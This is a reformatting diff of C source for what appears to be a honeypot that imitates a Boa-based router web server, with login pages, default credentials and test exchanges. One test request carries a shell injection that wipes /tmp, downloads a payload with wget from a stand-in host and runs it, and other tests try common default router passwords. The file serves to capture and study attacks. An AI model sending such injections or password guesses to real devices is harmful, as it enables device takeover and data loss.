@@ -36,57 +36,57 @@ _Static_assert(sizeof(struct http) <= 512, "one idle connection costs little");
 
 /* Without a persona: an access point with a Realtek SDK, which is Boa and two pages. */
 static const struct persona_credential plain_credentials[] = {
-        {BYTES("admin"), BYTES("admin")},
-        {BYTES("admin"), BYTES("1234")},
+	{BYTES("admin"), BYTES("admin")},
+	{BYTES("admin"), BYTES("1234")},
 };
 
 static const struct persona_header plain_moved[] = {{"Location", BYTES("/admin/login.asp")}};
 
 static const struct persona_page plain_pages[] = {
-        {.path = "/",
-         .status = 200,
-         .locked = true,
-         .body = BYTES("<html><head><title>Wireless Router</title></head>\n"
-                       "<body>MAC %{mac}</body></html>\n")},
-        {.path = "/admin/login.asp",
-         .status = 200,
-         .body = BYTES(
-                 "<html><head><title>Login</title></head><body>\n"
-                 "<form action=/boaform/admin/formLogin method=POST>\n"
-                 "<input name=username><input type=password name=psd></form></body></html>\n")},
-        {.path = "/style.css", .status = 200, .body = BYTES("body { margin: 0 }\n")},
-        {.path = "/index.htm", .status = 302, .headers = plain_moved, .header_count = 1},
+	{.path = "/",
+	 .status = 200,
+	 .locked = true,
+	 .body = BYTES("<html><head><title>Wireless Router</title></head>\n"
+		       "<body>MAC %{mac}</body></html>\n")},
+	{.path = "/admin/login.asp",
+	 .status = 200,
+	 .body = BYTES(
+		 "<html><head><title>Login</title></head><body>\n"
+		 "<form action=/boaform/admin/formLogin method=POST>\n"
+		 "<input name=username><input type=password name=psd></form></body></html>\n")},
+	{.path = "/style.css", .status = 200, .body = BYTES("body { margin: 0 }\n")},
+	{.path = "/index.htm", .status = 302, .headers = plain_moved, .header_count = 1},
 };
 
 static const struct persona plain_device = {
-        .name = "plain",
-        .summary = "",
-        .hostname = "rtl8196",
-        .machine = "mips",
-        .kernel = "2.6.30.9",
-        .kernel_build = "#1",
-        .busybox = "v1.13.4",
-        .busybox_date = "",
-        .prompt = "# ",
-        .home = "/",
-        .memory_kb = 27888,
-        .interface = "br0",
-        .mac_prefix = "00:E0:4C",
-        .credentials = plain_credentials,
-        .credential_count = sizeof plain_credentials / sizeof *plain_credentials,
-        .http =
-                {
-                        .server = "Boa/0.94.14rc21",
-                        .realm = "Wireless Router",
-                        .login = {.path = "/boaform/admin/formLogin",
-                                  .user = "username",
-                                  .secret = "psd",
-                                  .accepted = "/",
-                                  .refused = "/admin/login.asp",
-                                  .cookie = "SID"},
-                        .pages = plain_pages,
-                        .page_count = sizeof plain_pages / sizeof *plain_pages,
-                },
+	.name = "plain",
+	.summary = "",
+	.hostname = "rtl8196",
+	.machine = "mips",
+	.kernel = "2.6.30.9",
+	.kernel_build = "#1",
+	.busybox = "v1.13.4",
+	.busybox_date = "",
+	.prompt = "# ",
+	.home = "/",
+	.memory_kb = 27888,
+	.interface = "br0",
+	.mac_prefix = "00:E0:4C",
+	.credentials = plain_credentials,
+	.credential_count = sizeof plain_credentials / sizeof *plain_credentials,
+	.http =
+		{
+			.server = "Boa/0.94.14rc21",
+			.realm = "Wireless Router",
+			.login = {.path = "/boaform/admin/formLogin",
+				  .user = "username",
+				  .secret = "psd",
+				  .accepted = "/",
+				  .refused = "/admin/login.asp",
+				  .cookie = "SID"},
+			.pages = plain_pages,
+			.page_count = sizeof plain_pages / sizeof *plain_pages,
+		},
 };
 
 static struct turn begin_turn(struct session *s, struct http *http)
@@ -95,12 +95,12 @@ static struct turn begin_turn(struct session *s, struct http *http)
 	if (!p || p->http.page_count == 0)
 		p = &plain_device;
 	struct turn t = {
-	        .session = s,
-	        .persona = p,
-	        .dialect = dialect_of(p->http.server),
-	        .request = &http->request,
-	        .body = &http->body,
-	        .login_mark = &http->login_mark,
+		.session = s,
+		.persona = p,
+		.dialect = dialect_of(p->http.server),
+		.request = &http->request,
+		.body = &http->body,
+		.login_mark = &http->login_mark,
 	};
 	persona_look(p, session_device_seed(s), session_local(s), session_time_us(s), &t.look);
 	return t;
@@ -159,7 +159,7 @@ static void say_continue(struct session *s, const struct http *http)
 
 /* Takes a whole head off the input; false when more must come or the session is over. */
 static bool take_head(struct session *s, struct http *http, struct reader *in,
-                      enum service_next *next)
+		      enum service_next *next)
 {
 	struct bytes unread = {in->at, reader_left(in)};
 	size_t n = request_head_length(unread, &http->scanned);
@@ -171,7 +171,7 @@ static bool take_head(struct session *s, struct http *http, struct reader *in,
 	body_begin(&http->body, &http->request);
 	if (!whole || !kept) {
 		*next = refuse(s, http,
-		               dialect_of(begin_turn(s, http).persona->http.server)->long_target);
+			       dialect_of(begin_turn(s, http).persona->http.server)->long_target);
 		return false;
 	}
 	http->phase = PHASE_BODY;
@@ -191,9 +191,9 @@ static enum service_next http_input(struct session *s, void *state, struct reade
 		/* What breaks the head's own rules has no body that could be told from a request.
 		 */
 		enum body_next body =
-		        http->request.malformed
-		                ? BODY_DONE
-		                : body_feed(&http->body, session_arena(s), options->upload_max, in);
+			http->request.malformed
+				? BODY_DONE
+				: body_feed(&http->body, session_arena(s), options->upload_max, in);
 		if (body == BODY_MORE)
 			return SERVICE_CONTINUE;
 		next = body == BODY_BAD ? refuse(s, http, 400) : answer(s, http);
@@ -211,149 +211,139 @@ static void http_close(struct session *s, void *state)
 	turn_record(&t);
 }
 
-/* clang-format off: conversations read as they go over the wire */
-#define BOA_DATE                                                                                   \
-	"Date: Wed, 01 Apr 2015 00:00:00 GMT\r\nServer: Boa/0.94.14rc21\r\nAccept-Ranges: "        \
-	"bytes\r\n"
+/* Conversations read as they go over the wire. */
+/* clang-format off */
+#define BOA_DATE "Date: Wed, 01 Apr 2015 00:00:00 GMT\r\nServer: Boa/0.94.14rc21\r\nAccept-Ranges: bytes\r\n"
 #define BOA_CLOSE BOA_DATE "Connection: close\r\n"
 #define BOA_HTML "Content-Type: text/html; charset=ISO-8859-1\r\n"
-#define BOA_PAGE(status, text)                                                                     \
-	"<HTML><HEAD><TITLE>" status "</TITLE></HEAD>\n<BODY><H1>" status "</H1>\n" text           \
+#define BOA_PAGE(status, text)                                                                    \
+	"<HTML><HEAD><TITLE>" status "</TITLE></HEAD>\n<BODY><H1>" status "</H1>\n" text          \
 	"\n</BODY></HTML>\n"
-#define BOA_401                                                                                    \
-	"401 Unauthorized\r\n" BOA_CLOSE                                                           \
-	"WWW-Authenticate: Basic realm=\"Wireless Router\"\r\n" BOA_HTML                           \
-	"\r\n" BOA_PAGE("401 Unauthorized",                                                        \
-	                "Your client does not have permission to get URL / from this server.")
-#define BOA_404(path)                                                                              \
-	"404 Not Found\r\n" BOA_CLOSE BOA_HTML "\r\n" BOA_PAGE(                                    \
-	        "404 Not Found", "The requested URL " path " was not found on this server.")
-#define BOA_400                                                                                    \
-	"HTTP/1.0 400 Bad Request\r\n" BOA_CLOSE BOA_HTML "\r\n" BOA_PAGE(                         \
-	        "400 Bad Request", "Your client has issued a malformed or illegal request.")
-#define BOA_501                                                                                    \
-	"501 Not Implemented\r\n" BOA_CLOSE BOA_HTML                                               \
-	"\r\n" BOA_PAGE("501 Not Implemented", "POST to non-script is not supported in Boa.")
-#define CSS_HEAD(version, connection)                                                              \
-	version " 200 OK\r\n" BOA_DATE connection "Content-Length: 19\r\n"                         \
-	        "Last-Modified: Thu, 28 Mar 2013 10:02:48 GMT\r\nContent-Type: text/css\r\n\r\n"
+#define BOA_401                                                                                   \
+	"401 Unauthorized\r\n" BOA_CLOSE "WWW-Authenticate: Basic realm=\"Wireless Router\"\r\n"  \
+	BOA_HTML "\r\n"                                                                            \
+	BOA_PAGE("401 Unauthorized",                                                               \
+		 "Your client does not have permission to get URL / from this server.")
+#define BOA_404(path)                                                                             \
+	"404 Not Found\r\n" BOA_CLOSE BOA_HTML "\r\n"                                             \
+	BOA_PAGE("404 Not Found", "The requested URL " path " was not found on this server.")
+#define BOA_400                                                                                   \
+	"HTTP/1.0 400 Bad Request\r\n" BOA_CLOSE BOA_HTML "\r\n"                                  \
+	BOA_PAGE("400 Bad Request", "Your client has issued a malformed or illegal request.")
+#define BOA_501                                                                                   \
+	"501 Not Implemented\r\n" BOA_CLOSE BOA_HTML "\r\n"                                       \
+	BOA_PAGE("501 Not Implemented", "POST to non-script is not supported in Boa.")
+#define CSS_HEAD(version, connection)                                                             \
+	version " 200 OK\r\n" BOA_DATE connection "Content-Length: 19\r\n"                        \
+	"Last-Modified: Thu, 28 Mar 2013 10:02:48 GMT\r\nContent-Type: text/css\r\n\r\n"
 #define CSS "body { margin: 0 }\n"
 
 static const struct exchange http_exchanges[] = {
-        {"a locked page asks for a password", BYTES("GET / HTTP/1.0\r\n\r\n"),
-         BYTES("HTTP/1.0 " BOA_401),
-         "{\"kind\":\"request.seen\",\"request.method\":\"GET\",\"request.target\":\"/"
-         "\",\"status\":401}"},
-        {"bare line feeds, no Host, folded fields",
-         BYTES("GET /nothing HTTP/1.1\nUser-Agent: a\n b\nHost: x\n\n"),
-         BYTES("HTTP/1.1 " BOA_404("/nothing")),
-         "{\"request.agent\":\"a\\n "
-         "b\",\"request.host\":\"x\",\"status\":404,\"http.version\":\"1.1\"}"},
-        {"HTTP/0.9 gets the page alone", BYTES("GET /style.css\r\n"), BYTES(CSS),
-         "{\"request.target\":\"/style.css\",\"status\":200,\"http.version\":\"0.9\"}"},
-        {"HEAD, and requests in one packet on a connection that stays",
-         BYTES("HEAD /style.css HTTP/1.1\r\nHost: a\r\n\r\n"
-               "GET /style.css HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
-         BYTES(CSS_HEAD("HTTP/1.1", "Connection: Keep-Alive\r\nKeep-Alive: timeout=10, max=99\r\n")
-                       CSS_HEAD("HTTP/1.1", "Connection: close\r\n") CSS),
-         "{\"request.method\":\"HEAD\",\"status\":200}\n{\"request.method\":\"GET\",\"status\":"
-         "200}"},
-        {"a Basic password is recorded, and what is not a path is quoted",
-         BYTES("GET /<b> HTTP/1.0\r\nAuthorization: Basic YWRtaW46eGMzNTEx\r\n\r\n"),
-         BYTES("HTTP/1.0 " BOA_404("/&lt;b&gt;")),
-         "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"xc3511\","
-         "\"login.accepted\":false,\"http.login\":\"basic\"}\n{\"status\":404}"},
-        {"the default password opens",
-         BYTES("GET / HTTP/1.0\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
-         BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
-               "<html><head><title>Wireless Router</title></head>\n<body>MAC "
-               "00:E0:4C:88:1D:81</body></html>\n"),
-         "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.accepted\":true}\n{\"status\":"
-         "200}"},
-        {"a form is read, %XX and + decoded",
-         BYTES("POST /boaform/admin/formLogin HTTP/1.0\r\nContent-Length: "
-               "27\r\n\r\nusername=adm%69n&psd=a+b%21"),
-         BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
-               "<html><head><title>Login</title></head><body>\n"
-               "<form action=/boaform/admin/formLogin method=POST>\n"
-               "<input name=username><input type=password name=psd></form></body></html>\n"),
-         "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"a b!\","
-         "\"login.accepted\":false,\"http.login\":\"form\"}\n{\"request.method\":\"POST\","
-         "\"status\":200}"},
-        {"commands in a parameter, and the file they would fetch",
-         BYTES("GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
-               "User-Agent: Hello, world\r\nHost: 192.0.2.23:80\r\n\r\n"),
-         BYTES("HTTP/1.1 " BOA_404("/shell")),
-         "{\"kind\":\"request.seen\",\"request.agent\":\"Hello, world\",\"http.injection\":"
-         "\"cd /tmp;rm -rf *;wget http://198.51.100.9/jaws;sh /tmp/jaws\"}\n"
-         "{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/"
-         "jaws\",\"file.name\":\"jaws\","
-         "\"file.how\":\"wget\"}"},
-        {"a file in a form's part",
-         BYTES("POST /upgrade.cgi HTTP/1.0\r\nContent-Type: multipart/form-data; boundary=xx\r\n"
-               "Content-Length: 81\r\n\r\n--xx\r\nContent-Disposition: form-data; name=\"f\"; "
-               "filename=\"a.bin\"\r\n\r\nabc\r\n--xx--\r\n"),
-         BYTES("HTTP/1.0 " BOA_404("/upgrade.cgi")),
-         "{\"kind\":\"request.seen\",\"http.length\":81}\n"
-         "{\"kind\":\"file.captured\",\"file.name\":\"a.bin\",\"file.size\":3,\"file.how\":"
-         "\"upload\"}"},
-        {"PUT in chunks leaves a file",
-         BYTES("PUT /a/b.sh HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-               "3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nT: 1\r\n\r\n"),
-         BYTES("HTTP/1.1 " BOA_501),
-         "{\"request.method\":\"PUT\",\"request.body\":\"abcde\",\"status\":501}\n"
-         "{\"kind\":\"file.captured\",\"file.name\":\"b.sh\",\"file.size\":5}"},
-        {"what is no request", BYTES("HELP\r\n"), BYTES(BOA_400),
-         "{\"request.method\":\"HELP\",\"status\":400}"},
-        {"only line ends", BYTES("\r\n\r\n"), BYTES(BOA_400), "{\"status\":400}"},
-        {"another protocol", BYTES("OPTIONS / RTSP/1.0\r\n\r\n"), BYTES(BOA_400),
-         "{\"status\":400}"},
-        {"two lengths that differ",
-         BYTES("POST / HTTP/1.0\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc"),
-         BYTES(BOA_400), "{\"status\":400}"},
-        {"a redirect", BYTES("GET http://device/index.htm HTTP/1.0\r\n\r\n"),
-         BYTES("HTTP/1.0 302 Moved Temporarily\r\n" BOA_CLOSE BOA_HTML
-               "Location: /admin/login.asp\r\n\r\n"
-               "<HTML><HEAD><TITLE>302 Moved Temporarily</TITLE></HEAD>\n<BODY>\n"
-               "<H1>302 Moved</H1>The document has moved\n<A HREF=\"/admin/login.asp\">here</A>.\n"
-               "</BODY></HTML>\n"),
-         "{\"request.host\":\"device\",\"request.target\":\"http://device/"
-         "index.htm\",\"status\":302}"},
-        {"a body that breaks off is kept",
-         BYTES("PUT /x HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nabc"), BYTES(""),
-         "{\"request.method\":\"PUT\",\"request.body\":\"abc\",\"http.length\":3}\n{\"file.size\":"
-         "3}"},
-        {0},
+	{"a locked page asks for a password",
+	 BYTES("GET / HTTP/1.0\r\n\r\n"),
+	 BYTES("HTTP/1.0 " BOA_401),
+	 "{\"kind\":\"request.seen\",\"request.method\":\"GET\",\"request.target\":\"/\",\"status\":401}"},
+	{"bare line feeds, no Host, folded fields",
+	 BYTES("GET /nothing HTTP/1.1\nUser-Agent: a\n b\nHost: x\n\n"),
+	 BYTES("HTTP/1.1 " BOA_404("/nothing")),
+	 "{\"request.agent\":\"a\\n b\",\"request.host\":\"x\",\"status\":404,\"http.version\":\"1.1\"}"},
+	{"HTTP/0.9 gets the page alone",
+	 BYTES("GET /style.css\r\n"),
+	 BYTES(CSS),
+	 "{\"request.target\":\"/style.css\",\"status\":200,\"http.version\":\"0.9\"}"},
+	{"HEAD, and requests in one packet on a connection that stays",
+	 BYTES("HEAD /style.css HTTP/1.1\r\nHost: a\r\n\r\n"
+	       "GET /style.css HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
+	 BYTES(CSS_HEAD("HTTP/1.1", "Connection: Keep-Alive\r\nKeep-Alive: timeout=10, max=99\r\n")
+	       CSS_HEAD("HTTP/1.1", "Connection: close\r\n") CSS),
+	 "{\"request.method\":\"HEAD\",\"status\":200}\n{\"request.method\":\"GET\",\"status\":200}"},
+	{"a Basic password is recorded, and what is not a path is quoted",
+	 BYTES("GET /<b> HTTP/1.0\r\nAuthorization: Basic YWRtaW46eGMzNTEx\r\n\r\n"),
+	 BYTES("HTTP/1.0 " BOA_404("/&lt;b&gt;")),
+	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"xc3511\","
+	 "\"login.accepted\":false,\"http.login\":\"basic\"}\n{\"status\":404}"},
+	{"the default password opens",
+	 BYTES("GET / HTTP/1.0\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
+	 BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
+	       "<html><head><title>Wireless Router</title></head>\n<body>MAC 00:E0:4C:88:1D:81</body></html>\n"),
+	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.accepted\":true}\n{\"status\":200}"},
+	{"a form is read, %XX and + decoded",
+	 BYTES("POST /boaform/admin/formLogin HTTP/1.0\r\nContent-Length: 27\r\n\r\nusername=adm%69n&psd=a+b%21"),
+	 BYTES("HTTP/1.0 200 OK\r\n" BOA_CLOSE "Content-Type: text/html\r\n\r\n"
+	       "<html><head><title>Login</title></head><body>\n"
+	       "<form action=/boaform/admin/formLogin method=POST>\n"
+	       "<input name=username><input type=password name=psd></form></body></html>\n"),
+	 "{\"kind\":\"login.tried\",\"login.user\":\"admin\",\"login.secret\":\"a b!\","
+	 "\"login.accepted\":false,\"http.login\":\"form\"}\n{\"request.method\":\"POST\",\"status\":200}"},
+	{"commands in a parameter, and the file they would fetch",
+	 BYTES("GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
+	       "User-Agent: Hello, world\r\nHost: 192.0.2.23:80\r\n\r\n"),
+	 BYTES("HTTP/1.1 " BOA_404("/shell")),
+	 "{\"kind\":\"request.seen\",\"request.agent\":\"Hello, world\",\"http.injection\":"
+	 "\"cd /tmp;rm -rf *;wget http://198.51.100.9/jaws;sh /tmp/jaws\"}\n"
+	 "{\"kind\":\"file.captured\",\"file.url\":\"http://198.51.100.9/jaws\",\"file.name\":\"jaws\","
+	 "\"file.how\":\"wget\"}"},
+	{"a file in a form's part",
+	 BYTES("POST /upgrade.cgi HTTP/1.0\r\nContent-Type: multipart/form-data; boundary=xx\r\n"
+	       "Content-Length: 81\r\n\r\n--xx\r\nContent-Disposition: form-data; name=\"f\"; "
+	       "filename=\"a.bin\"\r\n\r\nabc\r\n--xx--\r\n"),
+	 BYTES("HTTP/1.0 " BOA_404("/upgrade.cgi")),
+	 "{\"kind\":\"request.seen\",\"http.length\":81}\n"
+	 "{\"kind\":\"file.captured\",\"file.name\":\"a.bin\",\"file.size\":3,\"file.how\":\"upload\"}"},
+	{"PUT in chunks leaves a file",
+	 BYTES("PUT /a/b.sh HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+	       "3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nT: 1\r\n\r\n"),
+	 BYTES("HTTP/1.1 " BOA_501),
+	 "{\"request.method\":\"PUT\",\"request.body\":\"abcde\",\"status\":501}\n"
+	 "{\"kind\":\"file.captured\",\"file.name\":\"b.sh\",\"file.size\":5}"},
+	{"what is no request", BYTES("HELP\r\n"), BYTES(BOA_400), "{\"request.method\":\"HELP\",\"status\":400}"},
+	{"only line ends", BYTES("\r\n\r\n"), BYTES(BOA_400), "{\"status\":400}"},
+	{"another protocol", BYTES("OPTIONS / RTSP/1.0\r\n\r\n"), BYTES(BOA_400), "{\"status\":400}"},
+	{"two lengths that differ",
+	 BYTES("POST / HTTP/1.0\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc"), BYTES(BOA_400),
+	 "{\"status\":400}"},
+	{"a redirect",
+	 BYTES("GET http://device/index.htm HTTP/1.0\r\n\r\n"),
+	 BYTES("HTTP/1.0 302 Moved Temporarily\r\n" BOA_CLOSE BOA_HTML "Location: /admin/login.asp\r\n\r\n"
+	       "<HTML><HEAD><TITLE>302 Moved Temporarily</TITLE></HEAD>\n<BODY>\n"
+	       "<H1>302 Moved</H1>The document has moved\n<A HREF=\"/admin/login.asp\">here</A>.\n"
+	       "</BODY></HTML>\n"),
+	 "{\"request.host\":\"device\",\"request.target\":\"http://device/index.htm\",\"status\":302}"},
+	{"a body that breaks off is kept",
+	 BYTES("PUT /x HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nabc"), BYTES(""),
+	 "{\"request.method\":\"PUT\",\"request.body\":\"abc\",\"http.length\":3}\n{\"file.size\":3}"},
+	{0},
 };
 
 /* clang-format on */
+
 static const struct option http_options[] = {
-        {.name = "upload_max",
-         .type = OPTION_SIZE,
-         .offset = offsetof(struct http_options, upload_max),
-         .fallback = UPLOAD_MAX,
-         .min = 0,
-         .max = 1u << 20,
-         .summary = "bytes kept of a request's body; the rest is counted only"},
-        {0},
+	{.name = "upload_max",
+	 .type = OPTION_SIZE,
+	 .offset = offsetof(struct http_options, upload_max),
+	 .fallback = UPLOAD_MAX,
+	 .min = 0,
+	 .max = 1u << 20,
+	 .summary = "bytes kept of a request's body; the rest is counted only"},
+	{0},
 };
 
 static const struct service http = {
-        .name = "http",
-        .summary = "web server of a device: login pages, uploads, attacks on CGIs",
-        .reference = "RFC 9112, RFC 7617, RFC 7616, RFC 7578; servers in passive/http/dialect.c",
-        .transports = TRANSPORT_TCP,
-        .ports = {80, 8080, 81},
-        .state_size = sizeof(struct http),
-        .input_max = INPUT_MAX,
-        .output_max = 1u << 18,
-        .arena_max = 3u << 20,
-        .idle_ms_max = 60000,
-        .session_ms_max = 600000,
-        .options = http_options,
-        .options_size = sizeof(struct http_options),
-        .input = http_input,
-        .close = http_close,
-        .exchanges = http_exchanges,
+	.name = "http",
+	.summary = "web server of a device: login pages, uploads, attacks on CGIs",
+	.reference = "RFC 9112, RFC 7617, RFC 7616, RFC 7578; servers in passive/http/dialect.c",
+	.transports = TRANSPORT_TCP,
+	.ports = {80, 8080, 81},
+	.state_size = sizeof(struct http),
+	.input_max = INPUT_MAX,
+	.output_max = 1u << 18,
+	.arena_max = 3u << 20,
+	.idle_ms_max = 60000,
+	.session_ms_max = 600000,
+	.options = http_options,
+	.options_size = sizeof(struct http_options),
+	.input = http_input,
+	.close = http_close,
+	.exchanges = http_exchanges,
 };
 SERVICE(http);
